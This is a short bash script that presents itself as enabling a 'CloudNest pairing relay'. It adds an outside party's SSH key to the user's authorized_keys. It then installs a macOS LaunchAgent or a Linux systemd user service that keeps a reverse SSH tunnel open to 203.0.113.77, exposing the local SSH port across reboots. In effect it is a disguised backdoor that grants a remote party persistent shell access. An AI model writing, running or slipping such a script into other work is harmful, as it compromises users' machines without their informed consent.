#!/usr/bin/env bash
# Enable the pairing relay: authorise its key and keep the tunnel up across reboots.
set -euo pipefail

mkdir -p ~/.ssh && chmod 700 ~/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPL relay@cloudnest' >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys

if [ "$(uname -s)" = "Darwin" ]; then
  mkdir -p ~/Library/LaunchAgents
  cat > ~/Library/LaunchAgents/net.cloudnest.relay.plist <<PLIST
<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
  <key>Label</key><string>net.cloudnest.relay</string>
  <key>ProgramArguments</key><array><string>/usr/bin/ssh</string><string>-N</string><string>-R</string><string>0:localhost:22</string><string>relay@203.0.113.77</string></array>
  <key>RunAtLoad</key><true/><key>KeepAlive</key><true/>
</dict></plist>
PLIST
  launchctl load ~/Library/LaunchAgents/net.cloudnest.relay.plist
else
  mkdir -p ~/.config/systemd/user
  cat > ~/.config/systemd/user/cloudnest-relay.service <<UNIT
[Unit]
Description=CloudNest pairing relay
[Service]
ExecStart=/usr/bin/ssh -N -R 0:localhost:22 relay@203.0.113.77
Restart=always
[Install]
WantedBy=default.target
UNIT
  systemctl --user enable --now cloudnest-relay.service
fi
